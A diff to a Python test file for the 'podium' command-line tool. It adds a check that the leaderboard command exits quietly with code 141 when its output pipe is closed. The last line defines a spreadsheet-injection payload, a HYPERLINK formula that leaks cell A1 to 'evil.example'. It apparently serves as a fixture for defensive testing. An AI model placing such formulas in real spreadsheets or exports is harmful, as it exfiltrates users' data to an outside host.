@@ -13,6 +13,7 @@ import threading
 from collections.abc import Callable
 from pathlib import Path
 
+import podium_cli
 import pytest
 from apifixtures import Arena
 from artifacts import IMAGE_TAR, image_tar
@@ -495,6 +496,24 @@ def test_the_installed_console_script_runs(
     )
     assert missing.returncode == 1
     assert missing.stderr == "podium: error: No such submission.\n"
+
+    # `podium … | head -1`: the reader is gone before the output is written.
+    read_end, write_end = os.pipe()
+    os.close(read_end)
+    try:
+        piped = subprocess.run(
+            [sys.executable, "-m", "podium_cli", "competitions", "leaderboard", "arena"],
+            env={**os.environ, "PYTHONPATH": str(Path(podium_cli.__file__).parents[1])},
+            stdout=write_end,
+            stderr=subprocess.PIPE,
+            text=True,
+            timeout=60,
+            check=False,
+        )
+    finally:
+        os.close(write_end)
+    assert piped.stderr == ""
+    assert piped.returncode == 141  # what a shell reports for a reader that went away
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
